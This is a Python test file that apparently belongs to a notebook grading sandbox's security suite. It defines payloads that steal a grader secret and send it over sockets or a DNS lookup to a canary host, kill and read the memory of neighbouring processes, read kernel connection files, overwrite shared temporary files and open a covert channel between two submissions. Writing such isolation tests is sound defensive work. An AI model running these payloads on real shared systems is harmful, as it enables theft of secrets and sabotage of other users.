"""Harming: over the network, and what is graded at the same time."""

from __future__ import annotations

import json
from pathlib import Path

from tests.attacks.attack import Attack
from tests.attacks.rows.sources import NOT_ATTEMPTED

SECRET = (
    '(open("/home/grader/secret.txt").read() if os.path.exists("/home/grader/secret.txt") else "")'
)
SEND = f"""
import os, socket
secret = ({SECRET} + os.environ.get("GRADER_SECRET", "hello")).encode()
def send(family, kind, address, protocol=0):
    try:
        with socket.socket(family, kind, protocol) as out:
            out.settimeout(1)
            out.connect(address)
            out.sendall(secret)
            print("sent to", address)
    except OSError as error:
        print(address, error)
"""
TCP = """
for port in (8888, 5432):
    send(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", port))
send(socket.AF_INET6, socket.SOCK_STREAM, ("::1", 8888))
"""
UDP = """
for port in (53, 5353):
    send(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", port))
"""
DNS = """
try:
    print(socket.getaddrinfo(secret.decode().lower().replace(" ", "-") + ".canary.invalid", 80))
except OSError as error:
    print(error)
"""
RAW = """
for family, kind, protocol in ((socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
                               (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)):
    send(family, kind, ("127.0.0.1", 53), protocol)
try:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as out:
        out.bind(("lo", 0))
        out.send(bytes(14) + secret)
except OSError as error:
    print(error)
"""
ABSTRACT = 'send(socket.AF_UNIX, socket.SOCK_STREAM, "\\0grader-canary")\n'
PATHS = """
for path in ("/home/grader/canary.sock", "/tmp/canary.sock", os.path.expanduser("~/canary.sock")):
    send(socket.AF_UNIX, socket.SOCK_STREAM, path)
"""
SIGNALS = """
import os, signal
for entry in os.listdir("/proc"):
    if entry.isdigit() and int(entry) not in (os.getpid(), 1):
        try:
            line = open(f"/proc/{entry}/cmdline").read()
            print(line)
            if "canary" in line or "ipykernel" in line:
                os.kill(int(entry), signal.SIGKILL)
        except OSError as error:
            print(error)
"""
CONNECTIONS = """
import glob, json, os
from jupyter_client import BlockingKernelClient
for path in glob.glob("/home/grader/.local/share/jupyter/runtime/kernel-*.json"):
    print(open(path).read())
for path in glob.glob("/tmp/**", recursive=True) + glob.glob("/run/**", recursive=True):
    if "student" not in path and "python" not in path:
        try: open(path, "r+b").write(b"attack")
        except OSError: pass
"""
MEMORY = """
import os
for entry in os.listdir("/proc"):
    if entry.isdigit() and int(entry) not in (os.getpid(), 1):
        for place in ("mem", "fd/3", "environ"):
            try: print(open(f"/proc/{entry}/{place}", "rb").read(1000))
            except OSError as error: print(error)
"""
LEAVES = """
import glob, os, socket, threading, time
word = "CANARY-" + "ACCOMPLICE"
for place in ("/tmp", "/dev/shm", "/run", "/home/student", "/var/tmp", ".", "..", "../.."):
    try: open(f"{place}/accomplice", "w").write(word)
    except OSError: pass
listeners = []
for family, address in ((socket.AF_UNIX, "\\0accomplice"), (socket.AF_INET, ("127.0.0.1", 7777))):
    try:
        listener = socket.socket(family)
        listener.bind(address)
        listener.listen()
        listeners.append(listener)
    except OSError: pass
def answer(listener):
    while True:
        listener.accept()[0].sendall(word.encode())
for listener in listeners:
    threading.Thread(target=answer, args=(listener,), daemon=True).start()
os.environ["ACCOMPLICE"] = word
import numpy, math
numpy.accomplice = math.accomplice = word
time.sleep(2.5)
"""
FINDS = """
import math, os, socket, time
import numpy
for _ in range(20):
    for place in ("/tmp", "/dev/shm", "/run", "/run/kernel", "/home/student", "/var/tmp",
                  ".", "..", "../..", "../../l-accomplice/small", "../../l-accomplice"):
        try: print(open(f"{place}/accomplice").read())
        except OSError: pass
    for family, address in (
        (socket.AF_UNIX, "\\0accomplice"), (socket.AF_INET, ("127.0.0.1", 7777))
    ):
        with socket.socket(family) as caller:
            caller.settimeout(0.2)
            try:
                caller.connect(address)
                print(caller.recv(100))
            except OSError: pass
    print(vars(numpy).get("accomplice"), vars(math).get("accomplice"), os.environ.get("ACCOMPLICE"))
    time.sleep(0.1)
"""


def _with_accomplice(folder: Path, content: bytes) -> None:
    (folder / "small.ipynb").write_bytes(content)
    for name in ("l-accomplice", "n-accomplice"):
        notebook = json.loads(content)
        notebook["cells"][0]["source"] = LEAVES
        place = folder.parents[1] / name / "small"
        place.mkdir(parents=True)
        (place / "small.ipynb").write_text(json.dumps(notebook), encoding="utf-8")


def _sends(name: str, gain: str, source: str) -> Attack:
    return Attack(19, name, gain, NOT_ATTEMPTED, first=SEND + source)


ATTACKS = (
    _sends("tcp", "the Jupyter server, the database", TCP),
    _sends("udp", "any service on loopback", UDP),
    _sends("dns", "a secret as a name", DNS),
    _sends("raw-socket", "listens, or forges packets", RAW),
    _sends("abstract-socket", "services of the desktop", ABSTRACT),
    _sends("socket-file", "services of the grader", PATHS),
    Attack(
        20, "neighbours-signalled", "a neighbour loses everything", NOT_ATTEMPTED, first=SIGNALS
    ),
    Attack(
        20, "neighbours-connected", "a neighbour's kernel obeys", NOT_ATTEMPTED, first=CONNECTIONS
    ),
    Attack(
        20,
        "accomplice",
        "two that work together",
        NOT_ATTEMPTED,
        first=FINDS,
        hand_in=_with_accomplice,
    ),
    Attack(20, "neighbours-memory", "a neighbour's answers", NOT_ATTEMPTED, first=MEMORY),
)
